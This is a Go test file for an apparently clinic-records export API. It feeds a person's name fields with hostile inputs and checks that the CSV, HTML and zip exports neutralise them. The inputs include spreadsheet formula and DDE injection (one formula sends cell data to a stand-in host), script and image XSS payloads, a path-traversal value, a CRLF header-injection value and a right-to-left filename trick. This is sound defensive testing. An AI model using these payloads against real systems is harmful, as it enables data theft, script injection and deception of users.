package api

import (
	"archive/zip"
	"encoding/csv"
	"io"
	"path"
	"strings"
	"testing"
)

// TestHostileNames puts formulas, markup and paths into every text that comes
// into a file, and makes every file.
func TestHostileNames(t *testing.T) {
	e := newEvenings(t, 3)
	held, err := e.records.Person(t.Context(), e.clinic["harbor"], e.client)
	e.check(err)
	for _, name := range []string{
		`=HYPERLINK("http://elsewhere.example?"&A1,"x")`, "+1-1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=cmd|' /C calc'!A0",
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "{{.}}", "../../etc/passwd", "a\r\nSet-Cookie: x=1", "\x00\x1b[31m", "\u202egnp.exe",
	} {
		held.LegalName, held.DisplayName = name, name
		e.check(e.records.UpdatePerson(t.Context(), held))
		for _, order := range []map[string]any{
			{"kind": "csv", "week": "2026-10-05"}, {"kind": "html", "week": "2026-10-05"}, {"kind": "csv", "session": e.sessions[0].Session},
			{"kind": "html", "session": e.sessions[0].Session}, {"kind": "fhir", "week": "2026-10-05", "names": true},
			{"kind": "own", "person": e.client, "from": "2026-10-05", "to": "2026-10-11"},
		} {
			order["purpose"], order["recipient"] = "why: "+name, name+" & co"
			token := e.admin
			e.admin = e.registered("export", "admin")() // each its own allowance
			job := e.exported(order)
			if job.State != "done" {
				t.Fatalf("%v: %+v", order, job)
			}
			data := e.file(job)
			e.admin = token
			if job.Name != path.Base(job.Name) || strings.ContainsAny(job.Name, "\"\\\r\n<> ") {
				t.Errorf("the file is called %q", job.Name)
			}
			harmless(t, job.Name, data)
		}
	}
}

// harmless looks into a file, and into those in it.
func harmless(t *testing.T, name, data string) {
	t.Helper()
	switch path.Ext(name) {
	case ".csv":
		rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && strings.Trim(cell, "-0123456789") != "" {
					t.Errorf("%s: %s is %q", name, rows[0][i], cell)
				}
			}
		}
	case ".html":
		lower := strings.ToLower(data)
		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>", "javascript:"} {
			if strings.Contains(lower, bad) {
				t.Errorf("%s holds %s", name, bad)
			}
		}
	case ".zip":
		files, err := zip.NewReader(strings.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, file := range files.File {
			if file.Name != path.Base(file.Name) || !strings.HasPrefix(file.Name, "own-copy.") {
				t.Errorf("%s holds %q", name, file.Name)
			}
			reader, err := file.Open()
			if err != nil {
				t.Fatal(err)
			}
			text, err := io.ReadAll(reader)
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, file.Name, string(text))
		}
	}
}
